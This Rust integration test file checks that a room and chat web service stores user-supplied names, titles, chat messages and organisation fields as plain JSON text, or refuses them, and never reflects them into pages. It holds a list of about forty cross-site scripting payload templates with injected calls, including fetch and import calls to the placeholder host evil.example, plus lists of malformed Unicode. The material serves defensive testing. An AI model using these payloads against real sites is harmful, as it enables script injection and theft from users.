//! Story (S-10, S-12, S-13): what attackers type as name, title, chat, knock, lobby message and organisation is refused
//! with its code or kept as text; it only ever comes back in JSON, never in a page. Browsers: `web/e2e`.

use anyhow::{Context, Result};
use model::role::Role;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use testkit::http::Client;
use testkit::socket::{PATIENCE, RoomSocket};
use wire::server::{Event, ServerMessage};

use crate::signing_in::set_up;

/// Ways to bring markup or script into a page. `§` stands for the call.
const MARKUP: [&str; 40] = [
    "<script>§</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>§</scr</script>ipt>",
    "</title><script>§</script>",
    "</textarea><img src=x onerror=§>",
    "<!--><script>§</script>-->",
    "<![CDATA[<script>§</script>]]>",
    "<img src=x onerror=§>",
    "<img src=\"//evil.example/pixel.gif\">",
    "<img srcset='//evil.example/1 1x, //evil.example/2 2x'>",
    "<svg onload=§>",
    "<svg><script href=data:,§ />",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=§/>#x'/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=§>",
    "<math href=javascript:§>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
    "<iframe src=javascript:§>",
    "<iframe srcdoc='<script>§</script>'>",
    "<object data=javascript:§>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:§>x</a>",
    "<a href=\"java\u{1680}script:§\">x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=§>",
    "<body onpageshow=§>",
    "<template><script>§</script></template>",
    "<video><source onerror=§>",
    "\" autofocus onfocus=§ x=\"",
    "' onmouseover='§",
    "`-§-`",
    "${§}",
    "{{constructor.constructor('§')()}}",
    "[x](javascript:§)",
    "![x](//evil.example/pixel.gif)",
    "javascript:/*--></title></style></textarea></script>*/§",
];
const CALLS: [&str; 13] = [
    "__pwn()",
    "window['__pwn']()",
    "top.__pwn``",
    "self[`__p`+`wn`]()",
    "eval(name)",
    "import('//evil.example')",
    "fetch('//evil.example')",
    "&#95;_pwn()",
    "&lt;b&gt;",
    "\\u005f_pwn()",
    "%3Cscript%3E",
    "__proto__.x=1",
    "ＡＬＥＲＴ(1)",
];
/// Refused in everything that is a name, by code.
const NO_NAMES: [(&str, &str); 17] = [
    ("", "name_empty"),
    (" \t\r\n\u{2003} ", "name_empty"),
    ("\u{200d}\u{200c}", "name_empty"),
    ("a\u{0}b", "name_forbidden"),
    ("a\nb", "name_forbidden"),
    ("a\u{1b}[31mb", "name_forbidden"),
    ("a\u{7f}b", "name_forbidden"),
    ("a\u{85}b", "name_forbidden"),
    ("Anna\u{202e}gpj.exe", "name_forbidden"),
    ("\u{2067}Anna\u{2069}", "name_forbidden"),
    ("An\u{200b}na", "name_forbidden"),
    ("An\u{ad}na", "name_forbidden"),
    ("\u{feff}Anna", "name_forbidden"),
    ("\u{3164}", "name_forbidden"),
    ("\u{2800}\u{2800}", "name_forbidden"),
    ("Anna\u{2028}Berta", "name_forbidden"),
    ("Anna\u{e0041}\u{e0042}", "name_forbidden"),
];
/// JSON that is no text, or no JSON: lone surrogates, wrong types, bytes that are not UTF-8.
const NO_TEXTS: [&[u8]; 8] = [
    br#""\ud800""#,
    br#""a\udfffb""#,
    br#""\ud83d\u0041""#,
    b"\"\xff\xfe\"",
    b"\"\xed\xa0\x80\"",
    b"null",
    br#"["a"]"#,
    br#"{"toString":"a"}"#,
];

/// All markups with one call, and one markup with all calls: each markup and each call at least once.
fn some() -> impl Iterator<Item = String> {
    let calls = CALLS.iter().map(|call| MARKUP[0].replace('§', call));
    MARKUP.iter().map(|markup| markup.replace('§', CALLS[0])).chain(calls)
}

/// Every markup with every call.
fn all() -> impl Iterator<Item = String> {
    MARKUP.iter().flat_map(|markup| CALLS.iter().map(|call| markup.replace('§', call)))
}

/// Sends JSON that may be none, and gives status and body; whatever comes back is JSON and is never guessed at.
async fn post(client: &Client, method: Method, path: &str, body: Vec<u8>) -> Result<(StatusCode, Value)> {
    let request = client.request(method, path).header("content-type", "application/json").body(body);
    let response = request.send().await?;
    let (status, headers) = (response.status(), response.headers().clone());
    assert_eq!(headers["content-type"], "application/json", "{path}");
    assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
    assert!(headers.contains_key("content-security-policy"), "{path}");
    Ok((status, serde_json::from_slice(&response.bytes().await?)?))
}

/// A field of a body: the text is kept as it is, or what is no text is refused with its code.
struct Field<'a> {
    client: &'a Client,
    method: Method,
    path: String,
    /// The body around the text.
    body: Value,
    /// Where the text stands in it.
    at: &'a str,
    /// Where it stands in the answer; empty: it is not told.
    answer: &'a str,
}

impl Field<'_> {
    async fn say(&self, text: &[u8]) -> Result<(StatusCode, Value)> {
        let mut body = self.body.clone();
        *body.pointer_mut(self.at).context("no such field")? = json!("@");
        let body = body.to_string().into_bytes();
        let at = body.windows(3).position(|window| window == b"\"@\"").context("no place")?;
        let body = [&body[..at], text, &body[at + 3..]].concat();
        post(self.client, self.method.clone(), &self.path, body).await
    }

    async fn keeps(&self, text: &str) -> Result<()> {
        let (status, answer) = self.say(&serde_json::to_vec(text)?).await?;
        assert!(status.is_success(), "{}: {text:?} gave {status} {answer}", self.path);
        if !self.answer.is_empty() {
            assert_eq!(answer.pointer(self.answer), Some(&json!(text)), "{}", self.path);
        }
        Ok(())
    }

    async fn refuses(&self, text: &[u8], code: &str) -> Result<()> {
        let (status, answer) = self.say(text).await?;
        let shown = String::from_utf8_lossy(text);
        let expected = if code == "malformed" { 400 } else { 422 };
        assert_eq!(
            (status.as_u16(), &answer["code"]),
            (expected, &json!(code)),
            "{}: {shown:?} gave {answer}",
            self.path
        );
        let echo = answer.to_string();
        assert!(!echo.contains('<') && !echo.contains("Anna"), "the refusal repeats what was sent: {echo}");
        Ok(())
    }

    async fn is_a_name(&self, chars_max: usize) -> Result<()> {
        for (text, code) in NO_NAMES {
            self.refuses(&serde_json::to_vec(text)?, code).await?;
        }
        self.refuses(&serde_json::to_vec(&"<b>".repeat(chars_max / 3 + 1))?, "name_too_long").await?;
        self.refuses(&serde_json::to_vec(&"ä".repeat(20_000))?, "name_too_long").await?;
        for text in NO_TEXTS {
            self.refuses(text, "malformed").await?;
        }
        self.keeps(&"ä".repeat(chars_max)).await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn titles_and_names_are_kept_as_text_or_refused() -> Result<()> {
    let (server, admin) = set_up().await?;
    let room = admin.create_room("Kurs").await?;
    let (post, mut pages) = (Method::POST, vec![String::new()]);
    let title = Field {
        client: &admin,
        method: post.clone(),
        path: "/api/v1/rooms".into(),
        body: json!({ "name": "" }),
        at: "/name",
        answer: "/settings/name",
    };
    for text in all() {
        title.keeps(&text).await?;
    }
    title.is_a_name(120).await?;

    let secret = admin.invite(room.id, Role::Participant).await?;
    let guest = server.client()?;
    guest.join(&secret, "Miriam").await?;
    let name = Field {
        client: &guest,
        method: post,
        path: "/api/v1/join".into(),
        body: json!({ "secret": secret, "name": "" }),
        at: "/name",
        answer: "",
    };
    for text in some().filter(|text| text.chars().count() <= 60) {
        name.keeps(&text).await?;
        let look: Value = guest.call(Method::POST, "/api/v1/join/look", &json!({ "secret": secret })).await?;
        assert_eq!(look["known_as"], json!(text));
        pages.push(text);
    }
    name.is_a_name(60).await?;

    // No page repeats anything of that, nor what an address asks for.
    for text in pages.iter().chain(MARKUP.map(String::from).iter()) {
        let asked: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for path in [format!("/{asked}"), format!("/join?next={asked}"), format!("/api/v1/rooms/{asked}")] {
            let response = guest.request(Method::GET, &path).header("accept", "text/html,*/*").send().await?;
            let (headers, body) = (response.headers().clone(), response.text().await?);
            assert_eq!(headers["x-content-type-options"], "nosniff");
            assert!(text.is_empty() || !body.contains(text.as_str()), "{path} repeats {text}");
            assert!(!body.contains("__pwn") && !body.contains("evil.example"), "{path}: {body}");
            let location = headers.get("location").map(|to| to.to_str()).transpose()?.unwrap_or("/");
            assert!(location.starts_with('/') && !location.starts_with("//"), "{path} leads to {location}");
        }
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_organisation_is_kept_as_text_or_refused() -> Result<()> {
    let (_server, admin) = set_up().await?;
    let organisation = |at, answer| Field {
        client: &admin,
        method: Method::PATCH,
        path: "/api/v1/organisation".into(),
        body: json!({ "name": "Verband", "contact": "post@example.org" }),
        at,
        answer,
    };
    for field in [organisation("/name", "/name"), organisation("/contact", "/contact")] {
        for text in some() {
            field.keeps(&text).await?;
        }
        field.keeps("Straße 1\n12345 Ort").await?;
        field.refuses(br#""a\u0000b""#, "text_forbidden").await?;
        field.refuses(br#"" ""#, "text_empty").await?;
        field.refuses(&serde_json::to_vec(&"x".repeat(501))?, "text_too_long").await?;
        for text in NO_TEXTS {
            field.refuses(text, "malformed").await?;
        }
    }
    Ok(())
}

/// Sends a command as text, so that it may hold what no type of ours can.
async fn command(socket: &mut RoomSocket, id: u32, command: &Value) -> Result<Option<String>> {
    socket.send_text(&json!({ "type": "command", "id": id, "command": command }).to_string()).await?;
    socket
        .wait_for(|message| match message {
            ServerMessage::Done { id: done } if *done == id => Some(None),
            ServerMessage::Refused { id: refused, code } if *refused == id => Some(Some(code.to_string())),
            _ => None,
        })
        .await
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_said_in_a_room_is_kept_as_text_or_refused() -> Result<()> {
    let (server, admin) = set_up().await?;
    let room = admin.create_room("Kurs").await?;
    let mut trainer = admin.socket(&admin.join_as_account(room.id).await?.ticket).await?;
    trainer.welcome().await?;
    let secret = admin.invite(room.id, Role::CoTrainer).await?;
    // A person may chat 20 times in ten seconds, and may not be waited for: so several share the corpus.
    let texts: Vec<String> = some().collect();
    let mut id = 0;
    for (number, part) in texts.chunks(18).enumerate() {
        let client = server.client()?;
        let mut socket = client.socket(&client.join(&secret, &format!("Gast {number}")).await?.ticket).await?;
        socket.welcome().await?;
        for text in part {
            id += 1;
            assert_eq!(command(&mut socket, id, &json!({ "name": "chat", "text": text })).await?, None, "{text}");
            let heard = trainer.event(|event| match event {
                Event::Chat { message } => Some(message.text.expose().to_owned()),
                _ => None,
            });
            assert_eq!(heard.await?, *text);
        }
        for (text, code) in [("a\u{0}b", "TextForbidden"), (" ", "TextEmpty"), (&"x".repeat(4_001), "TextTooLong")] {
            id += 1;
            let refused = command(&mut socket, id, &json!({ "name": "chat", "text": text })).await?;
            assert_eq!(refused.as_deref(), Some(code), "{text:?}");
        }
        for (text, code) in NO_NAMES.iter().skip(number % 4).step_by(4) {
            id += 1;
            let refused = command(&mut socket, id, &json!({ "name": "rename", "to": text })).await?;
            let refused = refused.map(|code| snake(&code));
            assert_eq!(refused.as_deref(), Some(*code), "{text:?}");
        }
        // A lone surrogate is no text at all: that is no person typing, so the connection ends.
        socket.send_text(r#"{"type":"command","id":9,"command":{"name":"chat","text":"\ud800"}}"#).await?;
        let ended = async { while socket.next().await.is_ok_and(|message| message.is_some()) {} };
        tokio::time::timeout(PATIENCE, ended).await?;
    }
    let lobby = json!({ "name": "lobby_message", "text": MARKUP[0] });
    assert_eq!(command(&mut trainer, 1, &lobby).await?, None);
    let outside = server.client()?;
    let secret = admin.invite(room.id, Role::Participant).await?;
    let mut waiting = outside.socket(&outside.join(&secret, MARKUP[7]).await?.ticket).await?;
    let message = waiting.wait_for(|message| match message {
        ServerMessage::Waiting { message } => Some(message.clone()),
        _ => None,
    });
    assert_eq!(message.await?.context("a message")?.expose(), MARKUP[0]);
    assert_eq!(command(&mut waiting, 1, &json!({ "name": "knock", "text": MARKUP[1] })).await?, None);
    let knocks = trainer.event(|event| match event {
        Event::Lobby { lobby } => lobby.waiting.first().and_then(|person| person.knock.clone()),
        _ => None,
    });
    assert_eq!(knocks.await?.expose(), MARKUP[1]);
    // The pad carries the room's title as it is.
    let renamed = admin.create_room(MARKUP[10]).await?;
    assert_eq!(admin.pad_token(renamed.pad.context("a pad")?).await?.title, MARKUP[10]);
    Ok(())
}

fn snake(name: &str) -> String {
    let mut out = String::new();
    for (at, letter) in name.char_indices() {
        if letter.is_ascii_uppercase() && at > 0 {
            out.push('_');
        }
        out.push(letter.to_ascii_lowercase());
    }
    out
}
